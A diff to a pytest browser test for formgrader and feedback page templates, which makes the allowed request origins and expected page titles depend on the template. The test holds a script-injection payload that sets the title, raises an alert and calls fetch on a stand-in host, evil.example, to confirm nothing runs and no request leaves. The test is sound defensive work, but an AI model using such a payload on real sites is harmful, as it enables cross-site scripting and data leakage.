@@ -8,7 +8,12 @@ from pages import page
 
 pytestmark = pytest.mark.xdist_group("browser")
 EVIL = "document.title='EVIL';alert(1);fetch('https://evil.example/')"
-ALLOWED = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"
+# The formgrader's page asks for its own style and for MathJax; the page of feedback for nothing.
+ALLOWED = {
+    "formgrade": ("file:///formgrader/", "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"),
+    "feedback": (),
+}
+TITLES = {"formgrade": "momentum", "feedback": "Feedback on momentum"}
 
 
 @pytest.mark.parametrize("template", ["feedback", "formgrade"])
@@ -28,7 +33,7 @@ def test_nothing_runs_and_no_request_leaves(template, tmp_path):
         browser.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
         browser.goto(path.as_uri())
         browser.wait_for_timeout(500)
-        assert browser.title() == "momentum"
+        assert browser.title() == TITLES[template]
     assert dialogs == []
-    own = ("file:///formgrader/", path.as_uri(), "data:image/", ALLOWED)
+    own = (path.as_uri(), "data:image/", *ALLOWED[template])
     assert [url for url in asked if not url.startswith(own)] == []
